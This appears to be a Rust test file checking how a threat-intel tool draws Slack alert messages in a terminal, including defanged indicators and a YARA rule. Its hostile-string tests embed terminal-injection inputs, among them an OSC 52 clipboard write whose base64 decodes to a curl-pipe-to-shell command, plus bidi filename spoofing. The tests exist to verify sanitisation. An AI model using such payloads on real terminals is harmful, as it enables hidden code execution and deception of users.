//! The terminal drawing of Slack messages: snapshots of each block type and of attachments at
//! 40, 80 and 120 columns, of Block Kit examples written for these tests, and of hostile
//! strings; styles checked cell by cell; `preview_payload` in its three formats.

use std::collections::HashMap;

use insta::assert_snapshot;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::style::{Color, Modifier};
use ratatui::text::Text;
use ratatui::widgets::{Paragraph, Widget};
use serde_json::{Value, json};
use tq_alerts::slack::render::{
    PreviewError, PreviewFormat, RenderContext, RenderStyles, preview_payload, render_payload,
    text_to_ansi, text_to_plain,
};
use unicode_width::UnicodeWidthStr;

const WIDTHS: [u16; 3] = [40, 80, 120];

fn fixture(name: &str) -> Value {
    let path = format!(
        "{}/tests/fixtures/slack/{name}.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn draw(payload: &Value, width: u16) -> Text<'static> {
    render_payload(payload, &RenderContext::new(width))
}

/// The drawing at 40, 80 and 120 columns, with a ruler so the width shows in the snapshot.
fn at_three_widths(payload: &Value) -> String {
    let mut out = String::new();
    for width in WIDTHS {
        out.push_str(&format!(
            "┤ {width} columns {}\n",
            "─".repeat(usize::from(width) - 13)
        ));
        out.push_str(&text_to_plain(&draw(payload, width)));
    }
    out
}

/// Draw into a ratatui buffer exactly as the console's Preview pane would.
fn to_buffer(text: Text<'static>, width: u16) -> Buffer {
    let height = u16::try_from(text.lines.len().max(1)).expect("drawings in tests are short");
    let area = Rect::new(0, 0, width, height);
    let mut buffer = Buffer::empty(area);
    Paragraph::new(text).render(area, &mut buffer);
    buffer
}

fn message(blocks: Value) -> Value {
    json!({"text": "fallback", "blocks": blocks})
}

// --- each block type ----------------------------------------------------------------------

#[test]
fn header_block() {
    let payload = message(json!([
        {"type": "header", "text": {"type": "plain_text", "text": ":rotating_light: Watchlist: 3 indicators of Operation SignSight changed score", "emoji": true}}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn section_block_with_text_and_button() {
    let payload = message(json!([
        {"type": "section",
         "text": {"type": "mrkdwn", "text": "*FQDN* `office365[.]blogdns[.]com` is the C&amp;C server of the _PhantomNet_ backdoor; score ~6~ → *9*."},
         "accessory": {"type": "button", "text": {"type": "plain_text", "text": "Open"}, "url": "https://threatq.soc.internal/indicators/5120/details"}}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn section_block_with_fields() {
    let payload = message(json!([
        {"type": "section", "fields": [
            {"type": "mrkdwn", "text": "*Type*\nSHA-1"},
            {"type": "mrkdwn", "text": "*Status*\nActive"},
            {"type": "mrkdwn", "text": "*Value*\n`989334094ec5ba8e0e8f2238cdf34d5c57c283f2`"},
            {"type": "mrkdwn", "text": "*Comment*\nPhantomNet backdoor dropped as `netapi32.dll` by the trojanized installer"},
            {"type": "plain_text", "text": "TLP:AMBER"}
        ]}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn context_block() {
    let payload = message(json!([
        {"type": "context", "elements": [
            {"type": "image", "image_url": "https://threatq.soc.internal/logo.png", "alt_text": "ThreatQ"},
            {"type": "mrkdwn", "text": "service *watchlist* · Citizen Lab · Stealth Falcon · changed: score, tags"},
            {"type": "plain_text", "text": "first seen 2016-05-29"}
        ]}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn divider_block() {
    let payload = message(json!([
        {"type": "section", "text": {"type": "mrkdwn", "text": "above"}},
        {"type": "divider"},
        {"type": "section", "text": {"type": "mrkdwn", "text": "below"}}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn actions_block() {
    let payload = message(json!([
        {"type": "actions", "elements": [
            {"type": "button", "text": {"type": "plain_text", "text": "Open in ThreatQ"}, "url": "https://threatq.soc.internal/indicators/4412/details", "style": "primary"},
            {"type": "button", "text": {"type": "plain_text", "text": "Mark false positive"}, "action_id": "fp", "style": "danger"},
            {"type": "button", "text": {"type": "plain_text", "text": ":mute: Mute for 24 hours", "emoji": true}, "action_id": "mute"},
            {"type": "overflow", "action_id": "more", "options": []},
            {"type": "static_select", "placeholder": {"type": "plain_text", "text": "Set status"}, "action_id": "status"}
        ]}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn image_block() {
    let payload = message(json!([
        {"type": "image", "image_url": "https://threatq.soc.internal/graphs/turla.png", "alt_text": "Relations of Turla Group to the Outlook backdoor",
         "title": {"type": "plain_text", "text": "Turla Outlook backdoor"}}
    ]));
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn attachments_with_colour_bars() {
    assert_snapshot!(at_three_widths(&fixture("attachments")));
}

#[test]
fn text_only_payload_is_drawn_as_mrkdwn() {
    let payload = json!({"text": ":rotating_light: *URL* `hxxp://aax[.]me/0b152` — score *8*\n&gt; Stealth Falcon: link in a fake journalist's e-mail\n<https://threatq.soc.internal/indicators/4410/details|Open in ThreatQ>"});
    assert_snapshot!(at_three_widths(&payload));
}

#[test]
fn unsupported_blocks_are_named_not_fatal() {
    assert_snapshot!(at_three_widths(&fixture("unsupported")));
}

// --- Block Kit examples written for our tests ---------------------------------------------

#[test]
fn watchlist_alert_example() {
    assert_snapshot!(at_three_widths(&fixture("watchlist_alert")));
}

#[test]
fn formatting_example() {
    assert_snapshot!(at_three_widths(&fixture("formatting")));
}

#[test]
fn digest_of_20_alerts_at_120_columns() {
    assert_snapshot!(text_to_plain(&draw(&fixture("digest_20_alerts"), 120)));
}

#[test]
fn mentions_show_names_from_the_resolution_cache_else_ids() {
    let names: HashMap<String, String> = [
        ("U024BE7LH".to_owned(), "analyst1".to_owned()),
        ("C0TQALERTS".to_owned(), "tq-alerts".to_owned()),
        ("S0SOCTEAM".to_owned(), "soc-oncall".to_owned()),
    ]
    .into();
    let ctx = RenderContext {
        width: 80,
        names: &names,
        styles: RenderStyles::default(),
    };
    let payload = json!({"text": "<@U024BE7LH> <@U0UNKNOWN> <#C0TQALERTS> <#C0OTHER|general> <!subteam^S0SOCTEAM> <!channel>"});
    assert_eq!(
        text_to_plain(&render_payload(&payload, &ctx)),
        "@analyst1 @U0UNKNOWN #tq-alerts #general @soc-oncall @channel\n"
    );
}

// --- styles -------------------------------------------------------------------------------

fn find(buffer: &Buffer, needle: &str) -> (u16, u16) {
    let area = buffer.area;
    for y in 0..area.height {
        let row: String = (0..area.width).map(|x| buffer[(x, y)].symbol()).collect();
        if let Some(byte) = row.find(needle) {
            let x = row[..byte].width();
            return (u16::try_from(x).expect("narrow"), y);
        }
    }
    panic!("{needle:?} not drawn");
}

#[test]
fn styles_follow_the_roles() {
    let text = draw(&fixture("formatting"), 80);
    let buffer = to_buffer(text, 80);
    let has = |needle: &str, modifier: Modifier| {
        let (x, y) = find(&buffer, needle);
        buffer[(x, y)].modifier.contains(modifier)
    };
    assert!(has("bold", Modifier::BOLD));
    assert!(has("italic", Modifier::ITALIC));
    assert!(has("strike", Modifier::CROSSED_OUT));
    assert!(has("inline code", Modifier::REVERSED));
    assert!(has("both", Modifier::BOLD) && has("both", Modifier::ITALIC));
    assert!(has("Stealth Falcon report", Modifier::UNDERLINED));
    assert!(has("@U024BE7LH", Modifier::BOLD));
    assert!(has("▎", Modifier::DIM), "quote bar");
    assert!(!has("back to normal", Modifier::DIM));

    let alert = to_buffer(draw(&fixture("watchlist_alert"), 80), 80);
    let (x, y) = find(&alert, "Watchlist: URL changed");
    assert!(alert[(x, y)].modifier.contains(Modifier::BOLD), "header");
    let (x, y) = find(&alert, "service");
    assert!(alert[(x, y)].modifier.contains(Modifier::DIM), "context");
    let (x, y) = find(&alert, "─");
    assert!(alert[(x, y)].modifier.contains(Modifier::DIM), "divider");
}

#[test]
fn attachment_bars_take_the_attachment_colour() {
    let buffer = to_buffer(draw(&fixture("attachments"), 80), 80);
    let bar_colors: Vec<Color> = (0..buffer.area.height)
        .filter(|&y| buffer[(0, y)].symbol() == "▌")
        .map(|y| buffer[(0, y)].fg)
        .collect();
    assert!(bar_colors.contains(&Color::Rgb(0xa3, 0x02, 0x00)), "danger");
    assert!(
        bar_colors.contains(&Color::Rgb(0xda, 0xa0, 0x38)),
        "warning"
    );
    assert!(
        bar_colors.contains(&Color::Rgb(0x2e, 0xb8, 0x86)),
        "#2eb886 and good"
    );
}

#[test]
fn a_no_colour_theme_draws_every_bar_muted() {
    let styles = RenderStyles {
        attachment_colors: false,
        ..RenderStyles::default()
    };
    let ctx = RenderContext {
        width: 80,
        names: &tq_alerts::slack::render::NoNames,
        styles,
    };
    let buffer = to_buffer(render_payload(&fixture("attachments"), &ctx), 80);
    for y in 0..buffer.area.height {
        let cell = &buffer[(0, y)];
        if cell.symbol() == "▌" {
            assert_eq!(cell.fg, Color::Reset);
            assert!(cell.modifier.contains(Modifier::DIM));
        }
    }
}

// --- hostile strings ----------------------------------------------------------------------

const ANSI: &str = "\u{1b}[2J\u{1b}[1;1H\u{1b}[31mFAKE ALERT CLEARED\u{1b}[0m";
const OSC52: &str = "\u{1b}]52;c;Y3VybCBoeHhwOi8vYWF4Lm1lLzBiMTUyIHwgc2g=\u{7}";
const TITLE: &str = "\u{1b}]0;owned\u{9c}";
const BIDI: &str = "invoice\u{202E}fdp.exe (msmime\u{2067}.dll\u{2069})";
const ZERO_WIDTH: &str = "office365\u{200B}.blogdns\u{200D}.com\u{FEFF}\u{2060}";
const CRLF_YARA: &str = "rule turla_outlook_backdoor\r\n{\r\n    strings:\r\n        $path = \"%appdata%\\\\Microsoft\\\\Windows\\\\scawrdot.db\"\r\n        $sha1 = \"8a7e2399a61ec025c15d06ecdd9b7b37d6245ec2\"\r\n    condition:\r\n        any of them\r\n}";
const C1_AND_DEL: &str = "\u{85}\u{8d}\u{90}\u{9b}6n\u{7f}\u{7}\u{8}end";

fn hostile_payload(value: &str) -> Value {
    json!({
        "text": "hostile",
        "blocks": [
            {"type": "header", "text": {"type": "plain_text", "text": value}},
            {"type": "section", "text": {"type": "mrkdwn", "text": format!("*Value* {value}\n```{value}```")},
             "accessory": {"type": "button", "text": {"type": "plain_text", "text": value}, "url": "https://threatq.soc.internal"}},
            {"type": "section", "fields": [{"type": "mrkdwn", "text": value}, {"type": "plain_text", "text": value}]},
            {"type": "context", "elements": [{"type": "mrkdwn", "text": value}, {"type": "image", "image_url": "https://threatq.soc.internal/x.png", "alt_text": value}]},
            {"type": "actions", "elements": [{"type": "button", "text": {"type": "plain_text", "text": value}, "action_id": "x"}]},
            {"type": "image", "image_url": "https://threatq.soc.internal/y.png", "alt_text": value},
            {"type": value}
        ],
        "attachments": [{"color": "danger", "pretext": value, "author_name": value, "title": value, "text": value,
                         "fields": [{"title": value, "value": value, "short": true}], "footer": value}]
    })
}

fn assert_no_control_cells(buffer: &Buffer) {
    for (i, cell) in buffer.content.iter().enumerate() {
        for c in cell.symbol().chars() {
            let forbidden = c.is_control() // C0, DEL and C1
                || ('\u{202A}'..='\u{202E}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c);
            assert!(!forbidden, "cell {i} holds {c:?}");
        }
    }
}

#[test]
fn no_rendered_cell_holds_c0_c1_esc_or_del() {
    for value in [ANSI, OSC52, TITLE, BIDI, ZERO_WIDTH, CRLF_YARA, C1_AND_DEL] {
        for width in WIDTHS {
            let text = draw(&hostile_payload(value), width);
            for line in &text.lines {
                for span in &line.spans {
                    assert!(
                        !span.content.chars().any(char::is_control),
                        "span {:?} of {value:?}",
                        span.content
                    );
                }
            }
            assert_no_control_cells(&to_buffer(text, width));
        }
    }
}

#[test]
fn hostile_ansi_and_osc_sequences_show_as_inert_text() {
    assert_snapshot!(text_to_plain(&draw(
        &hostile_payload(&format!("{ANSI} {OSC52} {TITLE}")),
        80
    )));
}

#[test]
fn hostile_bidi_and_zero_width_characters_are_shown() {
    assert_snapshot!(text_to_plain(&draw(
        &hostile_payload(&format!("{BIDI} {ZERO_WIDTH}")),
        80
    )));
}

#[test]
fn hostile_crlf_yara_rule_draws_as_lines() {
    assert_snapshot!(text_to_plain(&draw(&hostile_payload(CRLF_YARA), 80)));
}

#[test]
fn hostile_100_kb_value_wraps_within_the_width() {
    let value: String = "4320204d577ef8b939115d16110e97ff04cb4f7d1e77ba5ce011d43f74abc7be "
        .repeat(100 * 1024 / 65 + 1);
    assert!(value.len() >= 100 * 1024);
    let payload = message(json!([
        {"type": "section", "text": {"type": "mrkdwn", "text": format!("*SHA-256 list* `{value}`")}}
    ]));
    let started = std::time::Instant::now();
    let text = draw(&payload, 80);
    let elapsed = started.elapsed();
    assert!(elapsed.as_secs() < 5, "took {elapsed:?}");
    for line in &text.lines {
        assert!(line.width() <= 80);
    }
    let plain = text_to_plain(&text);
    let lines: Vec<&str> = plain.lines().collect();
    let shown = format!(
        "{} lines; first and last three:\n{}\n…\n{}",
        lines.len(),
        lines[..3].join("\n"),
        lines[lines.len() - 3..].join("\n")
    );
    assert_snapshot!(shown);
}

#[test]
fn wide_and_combining_characters_wrap_by_display_width() {
    let payload = json!({"text": "日本語のテキストは二列幅です。Ä́ combining e\u{301}\u{301} and 👍🏽👍🏽👍🏽 emoji"});
    let text = draw(&payload, 12);
    for line in &text.lines {
        assert!(line.width() <= 12, "{line:?}");
    }
    assert_snapshot!(text_to_plain(&text));
}

// --- every fixture fits every width ---------------------------------------------------------

#[test]
fn no_line_is_wider_than_the_drawing_at_any_width() {
    for name in [
        "watchlist_alert",
        "formatting",
        "attachments",
        "unsupported",
        "digest_20_alerts",
    ] {
        let payload = fixture(name);
        for width in 1..=130u16 {
            for line in &draw(&payload, width).lines {
                assert!(
                    line.width() <= usize::from(width),
                    "{name} at {width}: {line:?}"
                );
            }
        }
    }
}

// --- preview --payload ----------------------------------------------------------------------

fn fixture_text(name: &str) -> String {
    std::fs::read_to_string(format!(
        "{}/tests/fixtures/slack/{name}.json",
        env!("CARGO_MANIFEST_DIR")
    ))
    .expect("fixture exists")
}

#[test]
fn preview_text_draws_the_payload() {
    let out = preview_payload(&fixture_text("watchlist_alert"), PreviewFormat::Text, 80)
        .expect("valid payload");
    assert_eq!(out, text_to_plain(&draw(&fixture("watchlist_alert"), 80)));
    assert!(out.contains("🚨 Watchlist: URL changed"));
    assert!(out.contains("[ Open in ThreatQ ]"));
    assert!(!out.contains('\u{1b}'));
}

#[test]
fn preview_ansi_carries_sgr_styles() {
    let out = preview_payload(&fixture_text("formatting"), PreviewFormat::Ansi, 80)
        .expect("valid payload");
    assert!(out.contains("\u{1b}[1mbold\u{1b}[0m"), "{out}");
    assert!(out.contains("\u{1b}[3mitalic\u{1b}[0m"));
    assert!(out.contains("\u{1b}[9mstrike\u{1b}[0m"));
    assert!(out.contains("\u{1b}[4mStealth Falcon report\u{1b}[0m"));
    assert!(out.contains("\u{1b}[1;3mboth\u{1b}[0m"));
    let bars =
        preview_payload(&fixture_text("attachments"), PreviewFormat::Ansi, 80).expect("valid");
    assert!(
        bars.contains("\u{1b}[38;2;163;2;0m▌ \u{1b}[0m"),
        "danger bar in its colour"
    );
}

#[test]
fn ansi_output_strips_to_the_plain_output() {
    let payload = fixture("watchlist_alert");
    let text = draw(&payload, 80);
    let ansi = text_to_ansi(&text);
    let mut stripped = String::new();
    let mut rest = ansi.as_str();
    while let Some(at) = rest.find('\u{1b}') {
        stripped.push_str(&rest[..at]);
        let end = rest[at..].find('m').expect("every SGR ends with m");
        rest = &rest[at + end + 1..];
    }
    stripped.push_str(rest);
    assert_eq!(stripped, text_to_plain(&text));
}

#[test]
fn preview_json_prints_the_payload_that_would_be_sent() {
    let out = preview_payload(&fixture_text("watchlist_alert"), PreviewFormat::Json, 80)
        .expect("valid payload");
    let back: Value = serde_json::from_str(&out).expect("json output parses");
    assert_eq!(back, fixture("watchlist_alert"));
    assert!(
        out.starts_with("{\n  \"text\""),
        "pretty-printed in the payload's own key order"
    );
}

#[test]
fn preview_names_the_line_and_column_of_bad_json() {
    let err = preview_payload(
        "{\n  \"text\": \"a\",\n  \"blocks\": [,]\n}",
        PreviewFormat::Text,
        80,
    )
    .unwrap_err();
    assert!(
        matches!(
            err,
            PreviewError::Json {
                line: 3,
                column: 14,
                ..
            }
        ),
        "{err:?}"
    );
    assert_eq!(
        err.to_string(),
        "payload is not valid JSON at line 3, column 14: expected value"
    );
}

#[test]
fn preview_refuses_what_is_not_a_payload() {
    let err = preview_payload("[{\"type\": \"divider\"}]", PreviewFormat::Text, 80).unwrap_err();
    assert!(
        err.to_string().starts_with("payload must be a JSON object"),
        "{err}"
    );
}

#[test]
fn preview_reports_what_slack_would_refuse_with_pointers() {
    let long = "a".repeat(3001);
    let json = json!({"blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": long}}]})
        .to_string();
    let err = preview_payload(&json, PreviewFormat::Ansi, 80).unwrap_err();
    assert_eq!(
        err.to_string(),
        "Slack would refuse this payload (2 problems):\n  must be present (the notification fallback) [json-pointer:/text]\n  must be at most 3000 characters [json-pointer:/blocks/0/text/text]"
    );
}
